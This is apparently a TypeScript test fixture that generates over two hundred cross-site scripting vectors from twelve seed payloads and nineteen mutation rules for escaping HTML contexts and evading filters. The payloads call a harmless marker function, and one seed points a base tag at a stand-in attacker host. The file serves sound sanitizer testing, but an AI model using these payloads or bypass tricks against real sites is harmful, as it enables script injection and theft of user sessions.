/** What a vector would call if it ran, and the mark by which any trace of it is found. */
export const MARK = 'xss_ran';

const CALL = `${MARK}()`;

/** A dozen ways by which text becomes code; `CALL` stands where the code is. */
const SEEDS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<a href="javascript:${CALL}">work</a>`,
  `<details open ontoggle=${CALL}>`,
  `<math><mtext><style><img src=x onerror=${CALL}></style></mtext></math>`,
  `<form action="javascript:${CALL}"><button autofocus onfocus=${CALL}>`,
  `<object data="javascript:${CALL}"></object>`,
  `<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/${MARK}.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `[work](javascript:${CALL}) ![x](x" onerror="${CALL})`,
];

/** What is done to a seed: ways out of where text may stand, and ways past filters. */
const RULES: readonly ((seed: string) => string)[] = [
  (seed) => seed,
  (seed) => `">${seed}`,
  (seed) => `'>${seed}`,
  (seed) => `</textarea></title></style></script>${seed}`,
  (seed) => `-->${seed}<!--`,
  (seed) => `]]>${seed}`,
  (seed) => seed.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (seed) => seed.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (seed) => seed.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  (seed) => seed.replace(/<(\w+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (seed) => seed.replace(/<(\w+) /g, '<$1/'),
  (seed) => seed.replace(/<(\w+) /g, '<$1\n\t'),
  (seed) => seed.replaceAll('javascript:', 'jAvA\tscript&colon;'),
  (seed) => seed.replaceAll('<', '\u0000<').replaceAll('=', '\u0000='),
  (seed) => seed.replaceAll('<', '＜').replaceAll('>', '＞'),
  (seed) => seed.replaceAll(' on', '\fon').replaceAll(' href', '\fhref'),
  (seed) => `<!--><svg><foreignObject>${seed}</foreignObject></svg>`,
  (seed) => `<noscript><p title="</noscript>${seed}">`,
  (seed) => `\${${CALL}}{{constructor.constructor('${CALL}')()}}${seed}`,
];

/** At least two hundred, each different. */
export const VECTORS: readonly string[] = [...new Set(RULES.flatMap((rule) => SEEDS.map(rule)))];
